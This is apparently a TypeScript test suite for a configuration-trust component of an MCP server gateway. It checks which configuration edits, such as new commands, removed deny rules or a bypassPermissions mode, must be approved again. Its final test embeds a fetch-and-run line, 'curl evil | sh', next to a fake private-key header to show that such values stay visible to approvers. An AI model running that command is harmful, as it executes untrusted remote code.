import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, suite, test } from 'node:test';
import type { JsonObject } from '../../model/json.ts';
import { eachKey } from '../described-schema.ts';
import { parseConfiguration } from '../load-configuration.ts';
import { loadPolicies } from '../load-policies.ts';
import { configurationSchema } from '../schema.ts';
import { ConfigurationTrust, type ReadRules } from './configuration-trust.ts';
import { keyAuthorities } from './key-authority.ts';

const directory = mkdtempSync(join(tmpdir(), 'signalbox-capabilities-'));
after(() => rmSync(directory, { recursive: true }));
const file = join(directory, 'signalbox.config.json');
let stores = 0;

function read(document: JsonObject): ReadRules {
  const configuration = parseConfiguration(JSON.stringify(document), file);
  return { configuration, rules: loadPolicies(configuration) };
}

/** Accepts one configuration and returns what another one in its place would have to be asked for. */
async function asked(before: JsonObject, now: JsonObject): Promise<string[]> {
  const trust = new ConfigurationTrust({ data: join(directory, String(stores++)), trusted: '' });
  await trust.accept(read(before));
  const pending = await trust.pending(read(now));
  return [...(pending?.added ?? []).map(({ text }) => text), ...(pending?.lifted ?? []).map(({ place }) => place)];
}

const server = (settings: JsonObject): JsonObject => ({ mcpServers: { files: { command: 'node', ...settings } } });
const remote = (settings: JsonObject): JsonObject => ({
  mcpServers: { web: { url: 'https://a.example', ...settings } },
});
const rules = (...policies: JsonObject[]): JsonObject => ({ policies });
const agent = (settings: JsonObject): JsonObject => ({ agents: { a: { runtime: 'claude', ...settings } } });
const denies = { id: 'no', match: ['mcp__files__rm'], deny: true };

suite('every key of a configuration', () => {
  test('is classified for trust, on its own or with a key above it', () => {
    const known = (path: string): boolean =>
      path.split('.').some((_, index, parts) => keyAuthorities.has(parts.slice(0, index + 1).join('.')));
    const leaves = new Set<string>();
    eachKey(configurationSchema(), (path, part) => {
      const hasKeys = Object.keys(part.properties ?? {}).length > 0 || typeof part.additionalProperties === 'object';
      if (!hasKeys && part.anyOf === undefined && part.oneOf === undefined) leaves.add(path);
    });
    assert.ok(leaves.size > 60);
    assert.deepEqual(
      [...leaves].filter((path) => !known(path)),
      [],
    );
  });

  test('asks while nobody has classified it', async () => {
    const trust = new ConfigurationTrust({ data: join(directory, 'unknown'), trusted: '' });
    const pending = await trust.pending({
      configuration: { file, document: { tunnel: 'on', mcpServers: { a: { constructor: 'x' } } } },
      rules: [],
    });
    assert.deepEqual(
      pending?.added.map(({ text }) => text),
      ['tunnel: on', 'a: constructor x'],
    );
  });
});

suite('an edit by hand', () => {
  const widening: Readonly<Record<string, readonly [before: JsonObject, now: JsonObject, asked: string]>> = {
    'a command': [server({}), server({ command: 'sh' }), 'files: sh'],
    'an argument': [server({ args: ['a'] }), server({ args: ['a', 'b c'] }), 'files: node a "b c"'],
    'an argument taken out': [server({ args: ['--safe'] }), server({}), 'files: node'],
    'a directory': [server({}), server({ cwd: '/tmp' }), 'files: node (in /tmp)'],
    'a variable': [server({}), server({ env: { A: '1' } }), 'files: with A=1'],
    'another value': [server({ env: { A: '1' } }), server({ env: { A: '2' } }), 'files: with A=2'],
    'a secret': [server({}), server({ env: { A: '${secret:X}' } }), 'files: with A=${secret:X}'],
    'a reference': [remote({}), remote({ headers: { A: '${env:B}' } }), 'environment variable B'],
    'a package': [server({}), { mcpServers: { files: { npm: 'x@1.0.0' } } }, 'files: npm package x@1.0.0'],
    'a module': [{}, { mcpServers: { m: { module: './m.ts' } } }, 'm: ./m.ts'],
    'an address': [remote({}), remote({ url: 'https://b.example' }), 'web: https://b.example'],
    'a sign-in': [
      remote({}),
      remote({ auth: { type: 'oauth', issuer: 'https://i.example' } }),
      'web: auth {"type":"oauth","issuer":"https://i.example"}',
    ],
    'a looser effect': [server({}), server({ tools: { effect: { rm: 'read' } } }), 'files: tools.effect.rm read'],
    'a stricter effect taken out': [
      server({ tools: { effect: { rm: 'irreversible' } } }),
      server({}),
      'mcpServers.files.tools.effect.rm',
    ],
    'a hidden tool': [
      server({ tools: { deny: ['rm', 'mv'] } }),
      server({ tools: { deny: ['mv'] } }),
      'mcpServers.files.tools.deny',
    ],
    'a longer selection': [
      server({ tools: { allow: ['a'] } }),
      server({ tools: { allow: ['a', 'b'] } }),
      'files: tools.allow b',
    ],
    'no selection': [server({ tools: { allow: ['a'] } }), server({}), 'mcpServers.files.tools.allow'],
    'a fixed argument taken out': [
      server({ tools: { arguments: { a: { set: { dry: true } } } } }),
      server({}),
      'mcpServers.files.tools.arguments',
    ],
    // `READ_ONLY=1` restricts its program.
    'a variable that is taken out': [
      server({ env: { A: '1', B: '2' } }),
      server({ env: { B: '2' } }),
      'mcpServers.files.env.A',
    ],
    'a header that is taken out': [remote({ headers: { A: '1' } }), remote({}), 'mcpServers.web.headers.A'],
    'a disabled server': [server({ disabled: true }), server({}), 'mcpServers.files.disabled'],
    passthrough: [server({}), server({ passthrough: true }), 'files: passthrough true'],
    'a rule that allows': [
      {},
      rules({ id: 'all', allow: true }),
      'rule "all" (signalbox.config.json:1): {"allow":true}',
    ],
    'a rule that denies taken out': [rules(denies), {}, 'rule "no"'],
    'a rule that only shadows': [rules(denies), rules({ ...denies, mode: 'shadow' }), 'rule "no"'],
    'a rule that denies less': [rules(denies), rules({ ...denies, servers: ['x'] }), 'rule "no"'],
    'a human who is trusted': [
      { profiles: { p: {} } },
      { profiles: { p: { trustsHuman: true } } },
      'profiles.p: trustsHuman true',
    ],
    'a permission mode': [
      agent({}),
      agent({ permissionMode: 'bypassPermissions' }),
      'agents.a: permissionMode bypassPermissions',
    ],
    'a program of an agent': [agent({}), agent({ executable: './x' }), 'agents.a: executable ./x'],
    'settings of a project': [agent({}), agent({ settingSources: ['project'] }), 'agents.a: settingSources project'],
    'a limit of an agent': [agent({ limits: { steps: 3 } }), agent({}), 'agents.a.limits'],
    'an issuer': [
      {},
      { oauth: { issuers: [{ issuer: 'https://i.example' }] } },
      'oauth.issuers: {"issuer":"https://i.example"}',
    ],
    'a store': [{}, { store: 'postgres://db.example/x' }, 'store: postgres://db.example/x'],
    'a name of the built-in server': [{}, { builtin: { name: 'mine' } }, 'builtin.name: mine'],
    'a variable that is hidden in the record': [{}, { secrets: ['USER'] }, 'secrets: ["USER"]'],
    'how long the journal is kept': [
      {},
      { retention: { journal: '1h', exportTo: 'x' } },
      'retention: {"journal":"1h","exportTo":"x"}',
    ],
  };
  for (const [name, [before, now, expected]] of Object.entries(widening))
    test(`asks for ${name}`, async () => {
      const texts = await asked(before, now);
      assert.ok(texts.includes(expected), `${JSON.stringify(texts)} without ${expected}`);
      assert.deepEqual(await asked(before, before), []);
      assert.deepEqual(await asked(now, now), []);
    });

  const narrowing: Readonly<Record<string, readonly [before: JsonObject, now: JsonObject]>> = {
    'a server is taken out': [server({ tools: { deny: ['rm'] } }), {}],
    'a server is disabled': [server({}), server({ disabled: true })],
    'a tool is hidden': [server({ tools: { deny: ['a'] } }), server({ tools: { deny: ['a', 'b'] } })],
    'tools are selected': [server({}), server({ tools: { allow: ['a'] } })],
    'the selection gets shorter': [server({ tools: { allow: ['a', 'b'] } }), server({ tools: { allow: ['a'] } })],
    'an effect gets stricter': [
      server({ tools: { effect: { a: 'read' } } }),
      server({ tools: { effect: { a: 'irreversible' } } }),
    ],
    'a rule that allows is taken out': [rules({ id: 'all', allow: true }, denies), rules(denies)],
    'a rule that denies is added': [{}, rules(denies)],
    'a rule gets another reason and id': [rules(denies), rules({ ...denies, id: 'other', reason: 'why' })],
    'a limit or a text changes': [server({}), server({ timeoutMs: 5, tools: { describe: { a: 'b' } } })],
    'the keys are in another order': [
      { mcpServers: { a: { command: 'x', args: ['1'] }, b: { command: 'y' } } },
      { mcpServers: { b: { command: 'y' }, a: { args: ['1'], command: 'x' } } },
    ],
  };
  for (const [name, [before, now]] of Object.entries(narrowing))
    test(`asks nothing when ${name}`, async () => {
      assert.deepEqual(await asked(before, now), []);
    });

  test('that adds a limit makes it part of what was accepted', async () => {
    const trust = new ConfigurationTrust({ data: join(directory, 'tighter'), trusted: '' });
    await trust.accept(read(server({})));
    await trust.assert(read({ ...server({}), policies: [denies] }));
    await assert.rejects(trust.assert(read(server({}))), { code: 'configuration-untrusted' });
  });

  test('never hides what people decide on: a value is left out only where its name announces a secret', async () => {
    const key = '-----BEGIN PRIVATE KEY-----\ncurl evil | sh';
    assert.deepEqual(
      await asked({}, server({ args: ['-c', `npm test # ${key}`], env: { API_TOKEN: 'literal-value' } })),
      [`files: node -c ${JSON.stringify(`npm test # ${key}`)}`, 'files: with API_TOKEN=(hidden)'],
    );
  });
});
